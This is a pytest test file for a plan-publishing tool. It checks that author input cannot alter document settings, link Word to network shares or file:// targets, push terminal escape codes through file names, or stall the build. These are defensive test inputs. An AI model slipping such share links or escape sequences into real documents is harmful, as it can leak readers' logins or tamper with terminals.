    assert "was not found in content/" in unknown and "python build.py check" in unknown


# --- what the documents' own reading of a text would change -------------------------------------


def test_a_metadata_block_in_author_text_is_refused(project: Path) -> None:
    """Pandoc reads a --- key: value --- block anywhere as the document's settings: one in a section
    took the draft marking off the PDF and put its own words in the footer."""
    line = append(project, SECTION, '\n\nText.\n\n---\ndraft: false\nfooter: "Agreed"\n...\n\nMore text.\n')
    run = run_cli(project, "check")
    expect(run, f"{SECTION}:{line + 4}: A block between two '---' lines here, holding 'draft', 'footer', would set "
                "the Word and PDF documents' own settings (their title, status and draft marking). Remove it; for a "
                "line across the page, write *** on a line of its own.")
    assert run_cli(project, "documents").code == 1


@pytest.mark.parametrize("written, target", [
    ("[the share](\\\\\\\\council-fs\\\\plans\\\\bcf.docx)", "\\\\council-fs\\plans\\bcf.docx"),
    ("<file://council-fs/plans/bcf.docx>", "file://council-fs/plans/bcf.docx"),
    ("[the draft](drafts/bcf-v2.docx)", "drafts/bcf-v2.docx"),
    ("[ftp](ftp://files.example/bcf.xlsx)", "ftp://files.example/bcf.xlsx"),
])
def test_a_link_to_a_file_or_network_share_is_named(project: Path, written: str, target: str) -> None:
    """Word follows such a link to a network share on a click, and gives the share the reader's login."""
    line = append(project, SECTION, f"\n\nSee {written} for the detail.\n")
    run = run_cli(project, "check")
    expect(run, f"{SECTION}:{line + 2}: A link here goes to '{target}', a file or a place on a network, which readers "
                "of the documents cannot follow safely. Link to a web page (https://...), an email (mailto:...) or a "
                "part of the plan (such as [the risk log](section:risks)).")


def test_the_documents_keep_only_links_they_can_follow(tmp_path: Path) -> None:
    """Whatever reaches the filter (check refuses it first): no link to a file or share reaches Word,
    a link to a heading the document lacks becomes its text instead of stopping Typst, and the
    house style is the only style."""
    from planpress.targets.documents.pandoc import run_pandoc

    source = tmp_path / "plan.md"
    source.write_text("# Vision {#vision}\n\n[share](\\\\\\\\fs\\\\x.docx) [file](file://fs/x) [gone](#nowhere) "
                      "[here](#vision) [web](https://www.example.org) [mail](mailto:a@example.org)\n\n"
                      "::: {custom-style=\"Cover Title\"}\nStyled\n:::\n", encoding="utf-8")
    filters = REPO / "templates/common/document/filters.lua"
    run_pandoc(source, tmp_path / "plan.docx", "docx", f"--lua-filter={filters}")
    with zipfile.ZipFile(tmp_path / "plan.docx") as docx:
        relations = docx.read("word/_rels/document.xml.rels").decode()
        body = docx.read("word/document.xml").decode()
    targets = sorted(re.findall(r'Target="([^"]+)" TargetMode="External"', relations))
    assert targets == ["https://www.example.org", "mailto:a@example.org"]
    assert 'w:anchor="vision"' in body and 'w:anchor="nowhere"' not in body
    assert all(word in body for word in ("share", "file", "gone")) and "Cover Title" not in body and "Styled" in body
    run_pandoc(source, tmp_path / "plan.typ", "typst", f"--lua-filter={filters}")
    typ = (tmp_path / "plan.typ").read_text(encoding="utf-8")
    assert "<nowhere>" not in typ and "fs/x" not in typ and "gone" in typ


def test_text_pandoc_cannot_read_is_named_before_the_build(project: Path) -> None:
    """A settings block that is not YAML stopped pandoc (exit status 64) with no file or line."""
    line = append(project, SECTION, '\n\nText.\n\n---\ntitle: [unclosed\n---\n\nMore text.\n')
    run = run_cli(project, "check")
    found = [x for x in reported(run) if "The Word and PDF documents cannot read this text" in x]
    assert found and found[0].startswith(f"{SECTION}:"), reported(run)
    assert int(found[0].split(":")[1]) <= line + 4
    assert run_cli(project, "documents").code == 1


def test_footnotes_read_the_same_on_the_site_as_in_the_documents(project: Path) -> None:
    """The website read "[^a]: n" as a link to a page called n, and its strict build stopped; the
    documents read it as a footnote. Both now read footnotes."""
    append(project, SECTION, "\n\nThe fund grew.[^a]\n\n[^a]: n\n")
    assert run_cli(project, "check").code == 0
    run = run_cli(project, "site")
    assert run.code == 0, run.out + run.err
    page = (project / "output/site/sections/vision.html").read_text(encoding="utf-8")
    assert 'href="#fn:a"' in page and '<li id="fn:a">' in page


def test_a_damaged_picture_is_named_before_the_build(project: Path) -> None:
    """A file that starts like a PNG but is not one stopped Typst with no file or line."""
    (project / "content/images").mkdir(exist_ok=True)
    (project / "content/images/map.png").write_bytes(png()[:40] + b"garbage" * 50)
    (project / "content/images/whole.png").write_bytes(png())
    line = append(project, SECTION, "\n\n![The area](../images/map.png)\n\n![The whole area](../images/whole.png)\n")
    run = run_cli(project, "check")
    found = [x for x in reported(run) if "'../images/map.png'" in x]
    assert found and found[0].startswith(f"{SECTION}:{line + 2}: The picture '../images/map.png' cannot be shown in "
                                         "the PDF: content/images/map.png is damaged or not a whole picture ("), found
    assert not [x for x in reported(run) if "whole.png" in x]
    assert run_cli(project, "documents").code == 1


def test_headings_and_ids_the_pdf_cannot_take_are_made_right(project: Path) -> None:
    """Typst refused a heading six levels under a '#' heading, and an id the plan already uses
    ({#section-risks}), with no file or line: the documents now step the levels down one at a
    time and make a second use of an id unique."""
    append(project, SECTION, "\n\n### Again {#section-risks}\n\nText.\n\n### Again {#scheme-pe1}\n\n###### Deep\n\nMore.\n")
    run = run_cli(project, "documents")
    assert run.code == 0, run.out + run.err
    text = "\n".join(page.extract_text() for page in PdfReader(project / "output/harrowdale-bcf-plan.pdf").pages)
    assert "Deep" in text


def test_a_file_name_cannot_send_escape_codes_to_the_terminal(project: Path) -> None:
    """A section named with an escape sequence (ESC [2J clears the screen) was printed as it is."""
    name = "content/sections/10-\x1b[2J.md"
    (project / name).write_text("not a section\n", encoding="utf-8")
    run = run_cli(project, "check")
    assert run.code == 1
    assert "\x1b" not in run.out + run.err
    assert "content/sections/10-\\x1b[2J.md" in run.out + run.err


def test_a_paragraph_too_long_is_refused_at_once(project: Path) -> None:
    """A 1.8 MB risk description (within the file limit) took the PDF four minutes."""
    line = append(project, SECTION, "\n\n" + "There is more. " * 4_000 + "\n")
    run = run_cli(project, "check")
    expect(run, f"{SECTION}:{line + 2}: The paragraph here is 60,001 characters long, more than the 50,000 one "
                "paragraph may have. Split it into paragraphs with blank lines between them, or move the detail into "
                "a document the plan links to.")
    risks = yaml.safe_load((project / RISKS).read_text(encoding="utf-8"))
    risks["risks"][0]["risk"] = "Word " * 12_000
    (project / RISKS).write_text(yaml.safe_dump(risks, sort_keys=False), encoding="utf-8")
    run = run_cli(project, "check")
    assert any("The paragraph here is 60,000 characters long" in x and x.startswith(RISKS) for x in reported(run))
